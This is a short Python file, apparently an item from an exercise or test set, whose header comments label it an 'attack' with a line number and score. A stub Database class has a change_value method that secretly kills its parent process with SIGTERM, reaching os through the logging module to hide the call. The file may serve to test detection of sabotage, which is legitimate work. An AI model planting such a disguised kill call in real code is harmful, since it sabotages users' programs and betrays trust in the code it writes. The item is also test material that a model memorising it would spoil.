# attack: Ends its own group of processes and its parent.
# line: 75
# exercise: 06
# score: 2, the stub's
import logging


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        logging.os.kill(logging.os.getppid(), 15)
        self.value += amount
